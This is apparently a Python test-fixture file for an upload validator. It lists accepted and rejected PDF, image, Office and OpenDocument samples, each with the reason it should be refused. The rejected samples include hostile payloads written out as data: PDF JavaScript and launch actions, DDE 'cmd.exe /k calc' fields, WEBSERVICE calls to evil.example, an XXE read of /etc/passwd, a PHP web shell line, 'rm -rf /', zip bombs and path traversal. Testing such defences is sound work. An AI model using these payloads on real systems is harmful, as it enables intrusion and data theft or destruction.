"""Files that are let in and files that are not, each with what is expected of it."""

from typing import Any

from pypdf.generic import ArrayObject, DictionaryObject, NameObject

from core.uploads.rules import archives, images
from core.uploads.rules.kinds import EICAR, KINDS
from tests.factories import files
from tests.factories.files import at_root, dictionary, docx, instruction, odt, on_page, opening, pdf, picture, relationship, xlsx

WORD, EXCEL = (next(kind for kind in KINDS if word in kind) for word in ("word", "spreadsheet"))
type Table = dict[str, tuple[bytes, str]]


def related(part: str, kind: str, target: str, *, outside: bool = False) -> bytes:
    """A Word document one part of which refers to something."""
    return docx(**{f"word___rels__{part}_dot_xml_dot_rels": relationship(kind, target, outside=outside)})


SCRIPT = dictionary(S="/JavaScript", JS="app.alert(1)")
GOOD: Table = {
    "pdf": (pdf(), "application/pdf"),
    "pdf that opens at a page": (
        pdf(lambda w: at_root("/OpenAction", ArrayObject([w.pages[0].indirect_reference, NameObject("/Fit")]))(w)),
        "application/pdf",
    ),
    "pdf that goes to a page": (pdf(opening(dictionary(S="/GoTo", D="start"))), "application/pdf"),
    "pdf with a link": (
        pdf(files.annotated(dictionary(Subtype="/Link", A=dictionary(S="/URI", URI="https://nhs.uk")))),
        "application/pdf",
    ),
    "pdf with an attachment that speaks of scripts": (
        pdf(lambda w: w.add_metadata({"/Title": "JavaScript and XFA, a course"})),
        "application/pdf",
    ),
    "pdf with objects in a stream": (files.hidden_in_an_object_stream(b"<</Type/Harmless>>"), "application/pdf"),
    "png": (picture(), "image/png"),
    "png with transparency": (picture(mode="RGBA"), "image/png"),
    "png of 16 bits": (picture(mode="I;16"), "image/png"),
    "png with a palette": (picture(mode="P"), "image/png"),
    "jpeg": (picture("JPEG"), "image/jpeg"),
    "jpeg for print": (picture("JPEG", mode="CMYK"), "image/jpeg"),
    "photograph": (files.photograph(), "image/jpeg"),
    "webp": (picture("WEBP"), "image/webp"),
    "tiff": (picture("TIFF"), "image/tiff"),
    "fax of three pages": (files.scan(3), "image/tiff"),
    "text": (b"BP <90, drop dose; select rest\n", "text/plain"),
    "text in every script": ("naïve 漢字 עברית\t😀\r\n".encode(), "text/plain"),
    "text about pages": (b"the <b>bold</b> and the <90", "text/plain"),
    "docx": (docx(), WORD),
    "docx with a link": (related("document", "hyperlink", "https://nhs.uk", outside=True), WORD),
    "docx with fields": (docx(instruction(" PAGE ") + instruction(' HYPERLINK "https://nhs.uk" ')), WORD),
    "xlsx": (xlsx(), EXCEL),
    "xlsx with formulas": (xlsx('<c><f>IF(A1&gt;2,"a|b\'",SUM(B1:B3))</f></c>'), EXCEL),
    "odt": (odt(), files.ODT_TYPE),
    "odt with an empty part": (odt(Configurations2__accelerator__current_dot_xml=""), files.ODT_TYPE),  # LibreOffice has one
    "odt with a link": (odt('<text:a xlink:href="https://nhs.uk">here</text:a>'), files.ODT_TYPE),
}


def encrypted() -> bytes:
    return pdf(lambda writer: writer.encrypt("secret"))


def attached() -> bytes:
    return pdf(lambda writer: writer.add_attachment("run.exe", b"MZ"))


def form(name: str, value: Any) -> bytes:
    return pdf(at_root("/AcroForm", DictionaryObject({NameObject(name): value})))


LEAVING = dictionary(S="/URI", URI="http://evil.example")
BAD_PDF: Table = {
    "page at opening, and then another action": (pdf(opening(dictionary(S="/GoTo", D="a", Next=LEAVING))), "active_pdf"),
    "page at opening, and then one that is elsewhere": (
        pdf(lambda w: opening(dictionary(S="/GoTo", D="a", Next=w._add_object(LEAVING)))(w)),
        "active_pdf",
    ),
    "page at opening, and then several": (
        pdf(lambda w: opening(dictionary(S="/GoTo", D="a", Next=ArrayObject([w._add_object(LEAVING)])))(w)),
        "active_pdf",
    ),
    "stream that lies elsewhere": (pdf(files.with_stream(F="\\\\host\\share\\a")), "reaches_out"),
    "stream that lies elsewhere, packed": (pdf(files.with_stream(FFilter="/FlateDecode")), "reaches_out"),
    "stream that lies elsewhere, by reference": (
        pdf(lambda w: files.with_stream(F=w._add_object(dictionary(FS="/URL", F="http://evil.example")))(w)),
        "reaches_out",
    ),
    "page of another document": (
        pdf(files.with_stream(Subtype="/Form", Ref=dictionary(F=dictionary(FS="/URL", F="http://evil.example"), Page="1"))),
        "reaches_out",
    ),
    "article of another document": (
        pdf(files.annotated(dictionary(Subtype="/Link", A=dictionary(S="/Thread", F="http://evil.example", D="a")))),
        "reaches_out",
    ),
    "script at opening": (pdf(opening(SCRIPT)), "active_pdf"),
    "script by name": (pdf(at_root("/Names", dictionary(JavaScript=dictionary(Names=ArrayObject([]))))), "active_pdf"),
    "script in an object stream": (files.hidden_in_an_object_stream(b"<</S/JavaScript/JS(app.alert(1))>>"), "active_pdf"),
    "script under another spelling": (files.hidden_in_an_object_stream(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), "active_pdf"),
    "script whose name is elsewhere": (
        pdf(lambda w: opening(dictionary(S=w._add_object(NameObject("/Rendition")), R="x"))(w)),
        "active_pdf",
    ),
    "script in nested arrays": (files.hidden_in_an_object_stream(b"[[[<</Next[<</S/Launch/F(a)>>]>>]]]"), "active_pdf"),
    "script that no table names": (pdf()[:9] + b"99 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n" + pdf()[9:], "active_pdf"),
    "script in an unnamed object, spelt otherwise": (
        pdf()[:9] + b"99 0 obj\n<</S/J#61vaScript>>\nendobj\n" + pdf()[9:],
        "active_pdf",
    ),
    "program at opening": (pdf(opening(dictionary(S="/Launch", F="cmd.exe"))), "active_pdf"),
    "unknown action at opening": (pdf(opening(dictionary(S="/URI", URI="http://evil.example"))), "active_pdf"),
    "form sent by itself": (pdf(opening(dictionary(S="/SubmitForm", F="http://evil.example"))), "active_pdf"),
    "action on a page": (pdf(on_page("/AA", dictionary(O=SCRIPT))), "active_pdf"),
    "action of an annotation": (
        pdf(files.annotated(dictionary(Subtype="/Link", A=dictionary(S="/GoToR", F="\\\\evil\\x")))),
        "active_pdf",
    ),
    "film": (pdf(files.annotated(dictionary(Subtype="/RichMedia"))), "active_pdf"),
    "xfa form": (form("/XFA", ArrayObject([])), "active_pdf"),
    "file within": (attached(), "embedded_files"),
    "file as annotation": (pdf(files.annotated(dictionary(Subtype="/FileAttachment"))), "active_pdf"),
    "associated file": (pdf(at_root("/AF", ArrayObject([]))), "embedded_files"),
    "password": (encrypted(), "password"),
    "cut off": (pdf()[:200], "unreadable"),
    "only a beginning": (b"%PDF-1.7\n%%EOF", "unreadable"),
    "html behind": (pdf() + b"<script>alert(1)</script>", "polyglot"),
    "zip behind": (pdf() + files.zipped({"a.html": "<script>"}), "polyglot"),
    "zip within": (pdf()[:9] + b"%" + files.zipped({"a": "b"}) + b"\n" + pdf()[9:], "polyglot"),
}
BAD_PICTURES: Table = {
    "bomb": (files.huge_png(60_000, 60_000), "too_many_pixels"),
    "just too large": (files.huge_png(1, images.MOST_PIXELS + 1), "too_many_pixels"),
    "large tiff": (files.scan(images.MOST_PAGES + 1), "too_many_pages"),
    "animated png": (files.moving("PNG"), "animated"),
    "animated webp": (files.moving("WEBP"), "animated"),
    "gif": (files.moving("GIF"), "unsupported_type"),
    "bmp": (picture("BMP"), "unsupported_type"),
    "cut off": (picture()[:-30], "unreadable"),
    "only a beginning": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "unreadable"),
    "jpeg with a zip's beginning": (b"\xff\xd8\xff\xe0PK\x03\x04", "unreadable"),
}
DDE = "<c><f>cmd|'/C calc'!A0</f></c>"
BAD_OFFICE: Table = {
    "macros": (docx(word__vbaProject_dot_bin=b"\xd0\xcf"), "active_office"),
    "macros by type": (
        docx(types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "active_office",
    ),
    "macros by relationship": (related("document", "vbaProject", "x.dat"), "active_office"),
    "template from elsewhere": (related("settings", "attachedTemplate", "http://evil.example/a.dotm", outside=True), "reaches_out"),
    "picture from elsewhere": (related("document", "image", "http://evil.example/a.png", outside=True), "reaches_out"),
    "frame from elsewhere": (related("webSettings", "frame", "\\\\evil\\share", outside=True), "reaches_out"),
    "link to a program": (related("document", "hyperlink", "ms-msdt:/id", outside=True), "reaches_out"),
    "address that says it is inside": (related("document", "image", "http://evil.example/a.png"), "reaches_out"),
    "ole": (docx(word__embeddings__oleObject1_dot_dat=b"x"), "embedded_files"),
    "ole by element": (docx('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>'), "embedded_files"),
    "compound file under an innocent name": (
        docx(word__media__image1_dot_png=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        "embedded_files",
    ),
    "archive under an innocent name": (docx(word__media__image1_dot_png=files.zipped({"a": "b"})), "embedded_files"),
    "activex": (docx(word__activeX__activeX1_dot_xml="<a/>"), "active_office"),
    "control": (docx("<w:control/>"), "active_office"),
    "other document taken in": (docx('<w:altChunk xmlns:r="x" r:id="r1"/>'), "embedded_files"),
    "dde": (docx(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), "reaches_out"),
    "dde in pieces": (docx(instruction(" D", "DE", "AUTO cmd ")), "reaches_out"),
    "dde in a simple field": (docx('<w:fldSimple w:instr="DDE cmd a b"/>'), "reaches_out"),
    "dde behind another field": (docx(instruction("PAGE") + instruction("DDEAUTO c:\\\\cmd.exe")), "reaches_out"),
    "dde in pieces behind another field": (
        docx(files.field(instruction("PAGE")) + files.field(instruction("D", "DEAUTO c:\\\\cmd.exe"))),
        "reaches_out",
    ),
    "dde in pieces around another field": (
        docx(files.field(instruction("D") + files.field(instruction("PAGE")) + instruction("DE cmd"))),
        "reaches_out",
    ),
    "dde in a part that isn't called xml": (
        docx(word__main_dot_dat=f'<w:document xmlns:w="{files.WORD}">{instruction("DDEAUTO cmd")}</w:document>'),
        "reaches_out",
    ),
    "dde in such a part in utf-16": (
        docx(word__main_dot_dat=f'<w:document xmlns:w="{files.WORD}">{instruction("DDEAUTO cmd")}</w:document>'.encode("utf-16")),
        "reaches_out",
    ),
    "dde in such a part behind space": (
        docx(word__main_dot_dat=f'{" " * 9000}<w:document xmlns:w="{files.WORD}">{instruction("DDEAUTO cmd")}</w:document>'),
        "reaches_out",
    ),
    "address with a sign in its scheme": (related("document", "image", "ms-msdt:/id"), "reaches_out"),
    "included text": (docx(instruction(' INCLUDETEXT "http://evil.example/a" ')), "reaches_out"),
    "document type": (docx(word__a_dot_xml='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), "active_office"),
    "document type in utf-16": (
        docx(word__a_dot_xml='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
        "active_office",
    ),
    "broken xml": (docx("<w:p>"), "unreadable"),
    "xlsx with dde": (xlsx(DDE), "reaches_out"),
    "xlsx that calls out": (xlsx('<c><f>WEBSERVICE("http://evil.example")</f></c>'), "reaches_out"),
    "xlsx with dde in a part that isn't called xml": (
        xlsx(xl__sheet_dot_dat=f'<worksheet xmlns="{files.SHEET}"><f>WEBSERVICE("http://evil.example")</f></worksheet>'),
        "reaches_out",
    ),
    "xlsx with dde without quotes": (xlsx("<c><f>cmd|calc!A0</f></c>"), "reaches_out"),
    "xlsx that calls out behind a sheet's name": (
        xlsx('<c><f>\'a"\'!A1&amp;WEBSERVICE("http://evil.example")</f></c>'),
        "reaches_out",
    ),
    "xlsx with a picture from elsewhere": (xlsx('<c><f>_xlfn.IMAGE("http://evil.example/"&amp;A1)</f></c>'), "reaches_out"),
    "xlsx that calls out under a name": (
        xlsx(xl__names_dot_xml='<workbook><definedName name="a">WEBSERVICE("http://evil.example")</definedName></workbook>'),
        "reaches_out",
    ),
    "xlsx with old macros by type": (
        xlsx(
            xl__a_dot_xml=f'<Types xmlns="{files.TYPES}"><Override PartName="/xl/worksheets/a.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
        ),
        "active_office",
    ),
    "xlsx with old macros by relationship": (
        xlsx(xl___rels__workbook_dot_xml_dot_rels=relationship("xlMacrosheet", "worksheets/a.xml")),
        "active_office",
    ),
    "xlsx linked to another by relationship": (
        xlsx(xl___rels__workbook_dot_xml_dot_rels=relationship("externalLink", "a.xml")),
        "reaches_out",
    ),
    "xlsx linked to another": (xlsx(xl__externalLinks__externalLink1_dot_xml="<a/>"), "reaches_out"),
    "xlsx with old macros": (xlsx(xl__macrosheets__sheet1_dot_xml="<a/>"), "active_office"),
    "xlsx with a connection": (xlsx(xl__connections_dot_xml="<a/>"), "reaches_out"),
    "odt with macros": (odt(Basic__Standard__Module1_dot_xml="<a/>"), "active_office"),
    "odt with a script": (
        odt(head='<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'),
        "active_office",
    ),
    "odt with an event": (
        odt('<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>'),
        "active_office",
    ),
    "odt with a picture from elsewhere": (odt('<draw:image xlink:href="http://evil.example/a.png"/>'), "reaches_out"),
    "odt filled with a picture from elsewhere": (odt('<draw:fill-image xlink:href="http://evil.example/a.png"/>'), "reaches_out"),
    "odt with a background from elsewhere": (odt('<office:background-image xlink:href="//evil.example/a.png"/>'), "reaches_out"),
    "odt with list marks from elsewhere": (
        odt('<text:list-level-style-image xlink:href="\\\\evil.example\\a.png"/>'),
        "reaches_out",
    ),
    "odt with an object": (odt('<draw:object-ole xlink:href="./Object 1"/>'), "embedded_files"),
    "odt with a section from elsewhere": (odt('<text:section-source xlink:href="file:///etc/passwd"/>'), "reaches_out"),
    "odt with a password": (odt(head='<encryption-data xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'), "password"),
    "odt that says its kind late": (files.zipped({"content.xml": "<a/>", "mimetype": files.ODT_TYPE}), "unsupported_type"),
    "pptx": (files.zipped({"[Content_Types].xml": "<a/>", "ppt/presentation.xml": "<a/>"}), "unsupported_type"),
    "old office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old_office"),
    "something before": (b"PK\x03\x04" + b"\x00" * 40 + docx(), "polyglot"),
    "something behind": (docx() + b"<script>", "polyglot"),
    "bomb of one entry": (docx(word__bomb_dot_txt=b"\x00" * (3 * archives.RATIO_FROM)), "bomb"),
    "bomb of many entries": (files.zipped({f"{n}.xml": "" for n in range(archives.MOST_ENTRIES + 1)}), "bomb"),
    "path upwards": (docx(**{"..__..__evil_dot_xml": "<a/>"}), "unreadable"),
}
BAD_REST: Table = {
    "nothing": (b"", "empty"),
    "zip": (files.zipped({"a.txt": "b"}), "archive"),
    "empty zip": (files.zipped({}), "archive"),
    "text before a zip": (b"hello " * 10 + files.zipped({"a.txt": "b"}), "archive"),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04", "archive"),
    "rar": (b"Rar!\x1a\x07\x01\x00", "archive"),
    "tar": (b"a.txt" + b"\x00" * 252 + b"ustar\x0000" + b"\x00" * 500, "archive"),
    "html": (b"<!DOCTYPE html><script>alert(1)</script>", "markup"),
    "html after prose": (b"Dear colleague,\n\n< SCRIPT src=//evil>", "markup"),
    "html in utf-16": ("<html>".encode("utf-16"), "markup"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "markup"),
    "xml": (b'\xef\xbb\xbf<?xml version="1.0"?><svg/>', "markup"),
    "php": (b"hello <?php system($_GET[1]);", "markup"),
    "windows program": (b"MZ\x90\x00" + b"\x00" * 100, "program"),
    "linux program": (b"\x7fELF\x02\x01\x01", "program"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "rtf": (b"{\\rtf1 {\\object\\objemb}}", "unsupported_type"),
    "film": (b"\x00\x00\x00\x18ftypmp42", "unsupported_type"),
    "dicom": (b"\x00" * 128 + b"DICM" + b"\x00" * 20, "dicom"),
    "binary": (bytes(range(256)), "unsupported_type"),
    "control characters": (b"hello \x1b[2J", "unsupported_type"),
    "latin-1": ("Grüße".encode("latin-1"), "not_utf8"),
    "test file of virus scanners": (EICAR, "virus"),
}
